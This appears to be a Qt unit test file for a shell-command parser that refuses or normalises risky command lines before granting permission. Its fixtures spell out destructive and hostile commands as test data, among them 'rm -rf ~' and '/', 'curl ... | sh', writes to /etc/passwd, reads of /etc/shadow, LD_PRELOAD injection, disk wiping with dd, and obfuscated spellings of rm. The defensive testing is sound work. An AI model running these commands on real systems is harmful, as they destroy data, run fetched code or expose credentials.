// The POSIX shell-word reader behind standing grants: exact argument vectors, and a refusal for
// everything whose meaning is not in the text alone. And the lenient reading the risk engine
// and the breakers use (ShellCommands): what each simple command runs, however it is spelled.
#include "core/ShellCommands.h"
#include "core/ShellWords.h"

#include <QtTest>

using namespace interlock;

class TestShellWords : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void words_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QStringList>("argv");
        const auto row = [](const char *name, const QString &command, const QStringList &argv) {
            QTest::newRow(name) << command << argv;
        };
        row("plain", QStringLiteral("ls"), {QStringLiteral("ls")});
        row("options", QStringLiteral("ls -la build/"),
            {QStringLiteral("ls"), QStringLiteral("-la"), QStringLiteral("build/")});
        row("spaces and tabs", QStringLiteral("  ls \t -l  "),
            {QStringLiteral("ls"), QStringLiteral("-l")});
        row("single quotes keep everything", QStringLiteral("grep 'a; b && c | d $(e) `f` *' file"),
            {QStringLiteral("grep"), QStringLiteral("a; b && c | d $(e) `f` *"),
             QStringLiteral("file")});
        row("double quotes", QStringLiteral("echo \"a b; c\""),
            {QStringLiteral("echo"), QStringLiteral("a b; c")});
        row("escapes in double quotes", QStringLiteral("echo \"a \\\"b\\\" \\\\ \\x\""),
            {QStringLiteral("echo"), QStringLiteral("a \"b\" \\ \\x")});
        row("backslash outside quotes", QStringLiteral("ls my\\ file \\;"),
            {QStringLiteral("ls"), QStringLiteral("my file"), QStringLiteral(";")});
        row("empty argument", QStringLiteral("printf ''"), {QStringLiteral("printf"), QString()});
        row("adjacent quoting joins", QStringLiteral("echo a'b'\"c\"d"),
            {QStringLiteral("echo"), QStringLiteral("abcd")});
        row("quoted program", QStringLiteral("'ls'"), {QStringLiteral("ls")});
        row("hash inside a word", QStringLiteral("echo a#b"),
            {QStringLiteral("echo"), QStringLiteral("a#b")});
        row("tilde inside a word", QStringLiteral("echo a~b"),
            {QStringLiteral("echo"), QStringLiteral("a~b")});
        row("equals in an argument", QStringLiteral("make CC=gcc"),
            {QStringLiteral("make"), QStringLiteral("CC=gcc")});
    }
    void words()
    {
        QFETCH(QString, command);
        QFETCH(QStringList, argv);
        const ShellWords w = ShellWords::parse(command);
        QVERIFY2(w.ok(), qPrintable(w.refusal));
        QCOMPARE(w.argv, argv);
    }

    void refused_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("why"); // a word of the refusal
        const auto row = [](const char *name, const QString &command, const char *why) {
            QTest::newRow(name) << command << QString::fromLatin1(why);
        };
        row("semicolon", QStringLiteral("ls; rm -rf ~"), "';'");
        row("and", QStringLiteral("ls && curl https://x.example"), "'&'");
        row("or", QStringLiteral("ls || true"), "'|'");
        row("pipe", QStringLiteral("ls | sh"), "'|'");
        row("background", QStringLiteral("ls &"), "'&'");
        row("redirect out", QStringLiteral("ls > /etc/passwd"), "'>'");
        row("redirect in", QStringLiteral("sort < /etc/shadow"), "'<'");
        row("subshell", QStringLiteral("(ls)"), "'('");
        row("command substitution", QStringLiteral("ls $(rm -rf ~)"), "$(");
        row("backticks", QStringLiteral("ls `id`"), "`");
        row("substitution in double quotes", QStringLiteral("echo \"$(id)\""), "double quotes");
        row("backticks in double quotes", QStringLiteral("echo \"`id`\""), "double quotes");
        row("variable", QStringLiteral("ls $HOME"), "variable");
        row("braced variable", QStringLiteral("ls ${HOME}"), "variable");
        row("newline", QStringLiteral("ls\nrm -rf ~"), "line break");
        row("carriage return", QStringLiteral("ls\rrm -rf ~"), "line break");
        row("escaped newline", QStringLiteral("ls \\\nrm"), "line break");
        row("newline in quotes", QStringLiteral("echo 'a\nb'"), "line break");
        row("glob star", QStringLiteral("ls *"), "glob");
        row("glob question", QStringLiteral("ls a?"), "glob");
        row("glob bracket", QStringLiteral("ls [ab]"), "glob");
        row("brace expansion", QStringLiteral("echo {a,b}"), "brace");
        row("tilde", QStringLiteral("ls ~"), "tilde");
        row("comment", QStringLiteral("ls #; rm"), "comment");
        row("history", QStringLiteral("ls !!"), "'!'");
        row("history in double quotes", QStringLiteral("echo \"!!\""), "history");
        row("unclosed single", QStringLiteral("echo 'abc"), "never closed");
        row("unclosed double", QStringLiteral("echo \"abc"), "never closed");
        row("trailing backslash", QStringLiteral("ls \\"), "backslash");
        row("assignment", QStringLiteral("LD_PRELOAD=/tmp/x.so ls"), "environment");
        row("empty", QStringLiteral("   "), "no command");
        row("nul", QStringLiteral("ls") + QChar(0) + QStringLiteral("rm"), "control");
        row("escape character", QStringLiteral("echo \x1b[2J"), "control");
        row("zero-width space", QStringLiteral("ls") + QChar(0x200b), "control");
        row("right-to-left override", QStringLiteral("ls ") + QChar(0x202e) + QStringLiteral("x"),
            "control");
    }
    void refused()
    {
        QFETCH(QString, command);
        QFETCH(QString, why);
        const ShellWords w = ShellWords::parse(command);
        QVERIFY2(!w.ok(), qPrintable(QStringLiteral("read as: ") + w.argv.join(u'|')));
        QVERIFY(w.argv.isEmpty());
        QVERIFY2(w.refusal.contains(why), qPrintable(w.refusal));
    }

    void wrappers_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<bool>("wrapper");
        const auto row = [](const char *name, const char *command, bool wrapper) {
            QTest::newRow(name) << QString::fromLatin1(command) << wrapper;
        };
        row("bash -c", "bash -c 'ls; rm -rf ~'", true);
        row("sh -c", "sh -c ls", true);
        row("absolute shell", "/bin/sh -c ls", true);
        row("env", "env FOO=1 sh", true);
        row("xargs", "xargs rm", true);
        row("eval", "eval ls", true);
        row("sudo", "sudo ls", true);
        row("nice", "nice ls", true);
        row("timeout", "timeout 5 ls", true);
        row("python", "python3 -c 'import os'", true);
        row("versioned python", "python3.11 script.py", true);
        row("perl", "perl -e 'unlink glob'", true);
        row("awk", "awk 'BEGIN{system(\"id\")}'", true);
        row("find -exec", "find . -name x -exec rm '{}' ';'", true);
        row("find -delete", "find /tmp -delete", true);
        row("ssh", "ssh host ls", true);
        row("ls", "ls -la", false);
        row("find alone", "find . -name x", false);
        row("git", "git status", false);
        row("bashful is not bash", "bashful", false);
    }
    void leniently_data();
    void leniently();
    void spansAreWhereTheWordsAre_data();
    void spansAreWhereTheWordsAre();
    void programsOptionsAndOperands_data();
    void programsOptionsAndOperands();

    void wrappers()
    {
        QFETCH(QString, command);
        QFETCH(bool, wrapper);
        const ShellWords w = ShellWords::parse(command);
        QVERIFY2(w.ok(), qPrintable(w.refusal));
        QCOMPARE(!ShellWords::wrapperReason(w.argv).isEmpty(), wrapper);
    }
};

namespace {
// Each simple command as "name -flags operands options redirections", after its operator.
QString render(const QList<ShellCommand> &commands)
{
    QStringList out;
    for (const ShellCommand &c : commands) {
        if (!c.before.isEmpty())
            out.append(c.before);
        if (!c.hasProgram())
            continue;
        out.append(c.name);
        if (!c.flags.isEmpty())
            out.append(QLatin1Char('-') + c.flags);
        out += c.operands + c.options + c.redirections;
    }
    return out.join(QLatin1Char(' '));
}
} // namespace

void TestShellWords::leniently_data()
{
    words_data();
}

// Where ShellWords refuses, the lenient reading still gives the words ShellWords would give
// for each simple command: the same quotes, escapes and empty words.
void TestShellWords::leniently()
{
    QFETCH(QString, command);
    QFETCH(QStringList, argv);
    const QList<ShellCommand> read = ShellCommands::read(command + QStringLiteral(" ; true"));
    QVERIFY(!ShellWords::parse(command + QStringLiteral(" ; true")).ok());
    QCOMPARE(read.size(), 2);
    QCOMPARE(read[0].words, argv);
    QCOMPARE(read[1].words, QStringList{QStringLiteral("true")});
    QCOMPARE(read[1].before, QStringLiteral(";"));
}

void TestShellWords::spansAreWhereTheWordsAre_data()
{
    words_data();
    // Words that end at an operator or a redirection, and a quote left open.
    for (const char *c : {"x||y", "a&&b|c", "x>f 2>&1", "a;b&", "e'x'\"y\"$'z'w", "a\\\nb",
                          "echo $(ls)`id`", "grep 'open"})
        QTest::newRow(c) << QString::fromUtf8(c) << QStringList();
}

// Each word of the line itself knows where it is (CommandMentions replaces quoted ones): its
// text, read alone, is that word again. Words read from inside a word (sh -c '…') have none.
void TestShellWords::spansAreWhereTheWordsAre()
{
    QFETCH(QString, command);
    const QString line =
        QStringLiteral("bash -c 'rm -f x' && ") + command + QStringLiteral(" ; true");
    const QList<ShellCommand> read = ShellCommands::read(line);
    QVERIFY(read.size() >= 3);        // an open quote takes the "; true" in
    QVERIFY(read[1].spans.isEmpty()); // rm -f x, inside bash -c
    for (const ShellCommand &c : read.mid(2) + read.mid(0, 1)) {
        QCOMPARE(c.spans.size(), c.words.size());
        for (qsizetype i = 0; i < c.words.size(); ++i) {
            const ShellCommand::Span &s = c.spans[i];
            const QString text = line.mid(s.begin, s.end - s.begin);
            QCOMPARE(ShellCommands::read(text).value(0).words, QStringList{c.words[i]});
            const QString unjoined =
                QString(text).remove(QStringLiteral("\\\n")); // a line continuation
            QCOMPARE(s.quoted, unjoined.contains(u'\'') || unjoined.contains(u'"') ||
                                   unjoined.contains(u'\\'));
        }
    }
}

void TestShellWords::programsOptionsAndOperands_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("read");
    const auto row = [](const char *command, const char *read) {
        QTest::newRow(command) << QString::fromUtf8(command) << QString::fromUtf8(read);
    };
    row("rm -f -r /", "rm -fr /");
    row("rm --recursive --force /", "rm -rf /");
    row("rm -f / -r", "rm -fr /");
    row("\"rm\" -rf /", "rm -rf /");
    row("r''m -rf /", "rm -rf /");
    row("r\\m -rf /", "rm -rf /");
    row("/bin/rm -rf -- -x /", "rm -rf -x /");
    row("$'\\x72\\155' -rf /", "rm -rf /");
    row("rm -rf \\\n /", "rm -rf /");
    // ShellWords refuses these; they are still read.
    row("rm -f -r /home; true", "rm -fr /home ; true");
    row("rm -f /var/mail/*", "rm -f /var/mail/*");
    row("rm -f -r ~ && echo done", "rm -fr ~ && echo done");
    row("cat a # rm -rf /", "cat a");
    row("rm -rf / > /dev/null 2>&1", "rm -rf / > /dev/null 2>&1");
    row("curl -s x |& sh", "curl -s x |& sh");
    row("a\nrm -f -r /", "a ; rm -fr /");
    // Wrappers and their own options are not the program.
    row("sudo -u root rm -f -r ~", "rm -fr ~");
    row("env X=1 timeout -s KILL 10 nice -n 5 rm -r /srv", "rm -r /srv");
    row("xargs -n 1 rm -f -r", "rm -fr");
    // What a shell or a command substitution runs is read too.
    row("bash -c 'rm -f -r /'", "bash -c rm -f -r / ; rm -fr /");
    row("echo \"$(rm -f -r /)\"", "echo $(rm -f -r /) ; $( rm -fr / )");
    row("echo '$(rm -f -r /)' ; true", "echo $(rm -f -r /) ; true");
    row("echo $(rm -f -r /) `id`", "echo $( rm -fr / ) ` id `");
    // name=value operands last and sorted; option order does not matter.
    row("dd of=/dev/sda if=/dev/zero", "dd if=/dev/zero of=/dev/sda");
    row("chmod 777 -R /", "chmod -R 777 /");
    row("chmod --recursive 777 /", "chmod -R 777 /");
    row("git push origin main --force", "git -f push origin main");
    row("kill -9 1", "kill 1 -9");
}

void TestShellWords::programsOptionsAndOperands()
{
    QFETCH(QString, command);
    QFETCH(QString, read);
    QCOMPARE(render(ShellCommands::read(command)), read);
}

QTEST_GUILESS_MAIN(TestShellWords)
#include "tst_shellwords.moc"
